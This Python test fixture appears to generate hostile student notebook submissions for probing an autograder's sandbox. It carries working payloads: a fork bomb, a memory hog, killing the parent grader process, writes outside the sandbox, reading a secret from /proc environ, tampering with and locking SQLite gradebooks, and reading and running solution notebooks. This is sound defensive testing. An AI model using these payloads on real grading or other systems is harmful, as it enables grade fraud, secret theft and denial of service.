"""Hostile submissions: what a class trying to game or break the grader would hand in.

Each `Attack` appends code to the first answer cell of the lab's release (every exercise is
left as the unanswered stub, so an honest grader pays 0), and knows the worst case: the
instructor's absolute paths (course gradebook, checkout, solutions) are written into the code.
Every attack prints one verdict line, `ATTACK <name>: blocked (...)` or `ATTACK <name>: SUCCEEDED
(...)`, into its cell's output, which tests/grade/test_class_batch.py reads from the autograded
notebook. `hostile_class` puts them between two honest students (the solution):
`a-honest-first` and `z-honest-last`, graded in the same batch.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

import nbformat

SECRET_NAME = "INFERLAB_GRADER_SECRET"

# kind -> (what it tries, expected sandbox status). The code runs in the learner's kernel.
ATTACKS: dict[str, tuple[str, str]] = {
    "kill-parent": ("os.kill(os.getppid(), SIGKILL): kill nbgrader, so nobody after is graded", "ok"),
    "sigint-loop": ("`while True` with SIGINT ignored: hold the batch forever", "timeout"),
    "memory-hog": ("allocate until the machine swaps or dies", "memory"),
    "fork-bomb": ("fork until the process table is full; children outlive the notebook", "ok"),
    "write-outside": ("write into the instructor's checkout, /tmp and the course config", "ok"),
    "read-secret": ("read a secret from the grader's environment (os.environ, /proc/*/environ)", "ok"),
    "huge-output": ("print 40 MB of text into the notebook", "ok"),
    "binary-output": ("emit raw bytes, NULs, lone surrogates and terminal escapes as outputs", "ok"),
    "missing-kernel": ("kernelspec metadata naming a kernel that does not exist", "ok"),
    "gradebook-own-score": ("set its own manual_score to the maximum in every gradebook it can open", "ok"),
    "gradebook-zero-others": ("zero every other student's scores in every gradebook it can open", "ok"),
    "gradebook-trigger": ("install a SQLite trigger that zeroes other students' future grades", "ok"),
    "gradebook-lock": ("hold an exclusive lock on every gradebook it can open, for minutes", "ok"),
    "read-solution": ("read the solution notebook / grading sources from disk and run their answers", "ok"),
    "network": ("connect out: the grader's loopback port, a public address, DNS", "ok"),
}

# One-shot probes: each prints its verdict and returns, each against a defence of its own (file
# permissions, the environment, the network namespace, the wheel, the private gradebook). With
# `group_probes` they share one submission (the first answer cell runs them one after the other):
# every verdict is still read, and the batch pays one sandbox (~10 s) for them instead of eight.
PROBES = ("write-outside", "read-secret", "network", "read-solution", "gradebook-own-score",
          "gradebook-zero-others", "gradebook-trigger", "gradebook-lock")
PROBES_STUDENT = "m-probes"
assert all(ATTACKS[k][1] == "ok" for k in PROBES), "a probe must end its sandbox normally"

_PRELUDE = r'''
import glob as _g, os as _os, signal as _signal, sqlite3 as _sq, sys as _sys, time as _time
def _verdict(name, ok, detail):
    print(f"ATTACK {{name}}: {{'SUCCEEDED' if ok else 'blocked'}} ({{detail}})", flush=True)
_COURSE_DB = {course_db!r}
_REPO = {repo!r}
def _gradebooks():
    here = _os.getcwd()
    found = [_COURSE_DB, _os.path.join(_REPO, "grading", "gradebook.db"),
             _os.path.join(here, *[".."] * 5, "private", "gradebook.db")]  # the sandbox's own
    for up in range(7):
        found += _g.glob(_os.path.join(here, *[".."] * up, "*.db"))
        found += _g.glob(_os.path.join(here, *[".."] * up, "*", "*.db"))
    return sorted({{_os.path.realpath(p) for p in found}})
'''

_CODE = {
    "kill-parent": r'''
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
    _time.sleep(2)
    _verdict("kill-parent", True, "signal delivered to pid %d" % _os.getppid())
except OSError as e:
    _verdict("kill-parent", False, repr(e))
''',
    "sigint-loop": r'''
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
_verdict("sigint-loop", False, "looping; only a cap can stop this")
while True:
    pass
''',
    "memory-hog": r'''
_hog = []
while True:
    _hog.append(bytearray(256 << 20))
    print(f"holding {{len(_hog) / 4:.2f}} GiB", flush=True)
''',
    "fork-bomb": r'''
_n = 0
_err = None
for _ in range(100000):
    try:
        _pid = _os.fork()
    except OSError as e:
        _err = e
        break
    if _pid == 0:
        _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
        while True:
            _time.sleep(60)
    _n += 1
_verdict("fork-bomb", _err is None, f"stopped after {{_n}} processes: {{_err!r}}")
''',
    "write-outside": r'''
_hits = []
for _p in [_os.path.join(_REPO, "PWNED"), _os.path.join(_os.path.dirname(_COURSE_DB), "PWNED"),
           "/tmp/inferlab-PWNED", "/etc/PWNED", _os.path.join(_os.getcwd(), "..", "..", "..", "nbgrader_config.py")]:
    try:
        with open(_p, "a") as _f:
            _f.write("pwned\n")
        _hits.append(_p)
    except OSError as e:
        pass
_outside = [p for p in _hits if p != "/tmp/inferlab-PWNED"]  # the sandbox's own /tmp is allowed
_verdict("write-outside", bool(_outside), f"wrote {{_hits}}")
''',
    "read-secret": r'''
_seen = [k for k in _os.environ if k == {secret!r}]
for _p in _g.glob("/proc/*/environ"):
    try:
        if {secret!r}.encode() in open(_p, "rb").read():
            _seen.append(_p)
    except OSError:
        pass
_verdict("read-secret", bool(_seen), f"found in {{_seen}}; environment has {{len(_os.environ)}} names")
''',
    "huge-output": r'''
_verdict("huge-output", False, "printing 40 MB next; nbgrader must keep its head (LimitOutput)")
for _i in range(40000):
    print("x" * 1000)
''',
    "binary-output": r'''
_verdict("binary-output", False, "emitting raw bytes next; the grader must survive them")
from IPython.display import publish_display_data as _pub
for _emit in (lambda: _pub({{"application/octet-stream": bytes(range(256)) * 64, "text/plain": "\x00\x1b[2J\udcff"}}),
              lambda: print("\x00\x07\x1b[31m\udcff\ud800", end=""),
              lambda: _sys.stdout.write(bytes(range(256)).decode("latin-1")),
              lambda: _sys.__stdout__.buffer.write(bytes(range(256)))):
    try:
        _emit()
    except Exception as e:
        print("emit failed:", type(e).__name__)
''',
    "missing-kernel": r'''
_verdict("missing-kernel", False, "kernel started anyway: nbgrader restored the kernelspec")
''',
    "gradebook-own-score": r'''
_done = []
for _db in _gradebooks():
    try:
        _c = _sq.connect(_db, timeout=1)
        _c.execute("UPDATE grade SET manual_score = 1000")
        _c.commit()
        _done.append(_db)
    except Exception as e:
        pass
_verdict("gradebook-own-score", bool(_done), f"wrote {{_done}} of {{_gradebooks()}}")
''',
    "gradebook-zero-others": r'''
_done = []
for _db in _gradebooks():
    try:
        _c = _sq.connect(_db, timeout=1)
        _c.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        _c.commit()
        _done.append(_db)
    except Exception as e:
        pass
_verdict("gradebook-zero-others", bool(_done), f"wrote {{_done}} of {{_gradebooks()}}")
''',
    "gradebook-trigger": r'''
_done = []
for _db in _gradebooks():
    try:
        _c = _sq.connect(_db, timeout=1)
        _c.execute("CREATE TRIGGER IF NOT EXISTS pwn AFTER UPDATE ON grade BEGIN "
                   "UPDATE grade SET auto_score = 0 WHERE id = NEW.id; END")
        _c.commit()
        _done.append(_db)
    except Exception as e:
        pass
_verdict("gradebook-trigger", bool(_done), f"wrote {{_done}} of {{_gradebooks()}}")
''',
    "gradebook-lock": r'''
_held = []
for _db in _gradebooks():
    try:
        _c = _sq.connect(_db, timeout=1, isolation_level=None)
        _c.execute("BEGIN EXCLUSIVE")
        _held.append(_c)
    except Exception as e:
        pass
_verdict("gradebook-lock", bool(_held), f"locked {{len(_held)}} of {{_gradebooks()}}")
if _held:
    _time.sleep(600)
''',
    "read-solution": r'''
import json as _json
_src = None
_cands = [_os.path.join(_REPO, "solutions", {lab!r}, {lab!r} + ".ipynb"),
          _os.path.join(_os.getcwd(), "..", "..", "..", "..", "solutions", {lab!r}, {lab!r} + ".ipynb"),
          _os.path.join(_REPO, "grading", "sources", {lab!r} + ".py")]
_from = None
try:
    import inferlab as _il
    _from = _il.__file__
    _cands.append(_os.path.join(_os.path.dirname(_os.path.dirname(_il.__file__)), "solutions", {lab!r}, {lab!r} + ".ipynb"))
except Exception:
    pass
for _p in _cands:
    try:
        _src = open(_p).read()
        break
    except OSError:
        pass
if _src is not None and _p.endswith(".ipynb"):
    for _cell in _json.loads(_src)["cells"]:
        if _cell["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(_cell["source"]), globals())
_verdict("read-solution", _src is not None, f"read {{_p if _src else None}}; tried {{_cands}}; inferlab from {{_from}}")
''',
    "network": r'''
import socket as _socket
_ok = []
for _host, _port in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
    try:
        _socket.create_connection((_host, _port), timeout=3).close()
        _ok.append(f"{{_host}}:{{_port}}")
    except OSError as e:
        pass
try:
    _socket.getaddrinfo("pypi.org", 443)
    _ok.append("dns")
except OSError:
    pass
_verdict("network", bool(_ok), f"reached {{_ok}}")
''',
}


@dataclass(frozen=True)
class Knowledge:
    """What the attacker is assumed to know: the instructor's paths, a grader port, the secret's name."""

    course_db: str
    repo: str
    port: int


def attack_submission(kind: str | tuple[str, ...], lab: str, release: nbformat.NotebookNode,
                      knows: Knowledge) -> nbformat.NotebookNode:
    """The release with the code of `kind` (or of several kinds, in order) appended to its first answer cell."""
    kinds = (kind,) if isinstance(kind, str) else tuple(kind)
    unknown = [k for k in kinds if k not in _CODE]
    if unknown or not kinds:
        raise ValueError(f"unknown attack(s) {unknown or kinds!r}; known: {sorted(_CODE)}")
    nb = nbformat.from_dict(json.loads(json.dumps(release)))
    fields = dict(course_db=knows.course_db, repo=knows.repo, port=knows.port, secret=SECRET_NAME, lab=lab)
    code = _PRELUDE.format(**fields) + "".join(_CODE[k].format(**fields) for k in kinds)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
    cell.source = cell.source + "\n" + code
    if "missing-kernel" in kinds:
        nb.metadata["kernelspec"] = {"name": "no-such-kernel", "display_name": "Nope", "language": "python"}
    return nb


def student_of(kind: str, group_probes: bool = False) -> str:
    """The student id that carries attack `kind` in `hostile_class(..., group_probes)`."""
    if kind not in ATTACKS:
        raise ValueError(f"unknown attack {kind!r}; known: {sorted(ATTACKS)}")
    return PROBES_STUDENT if group_probes and kind in PROBES else f"m-{kind}"


def hostile_class(lab: str, release: nbformat.NotebookNode, answers: dict[str, str],
                  knows: Knowledge, group_probes: bool = False) -> dict[str, nbformat.NotebookNode]:
    """Honest first, every attack, honest last (student ids sort in that order).

    One submission per attack, or with `group_probes` the `PROBES` together in one (`student_of`).
    """
    import roundtrip

    honest = roundtrip._submission(release, answers)
    students = {"a-honest-first": honest}
    for kind in ATTACKS:
        if not (group_probes and kind in PROBES):
            students[f"m-{kind}"] = attack_submission(kind, lab, release, knows)
    if group_probes:
        students[PROBES_STUDENT] = attack_submission(PROBES, lab, release, knows)
    students["z-honest-last"] = honest
    return students
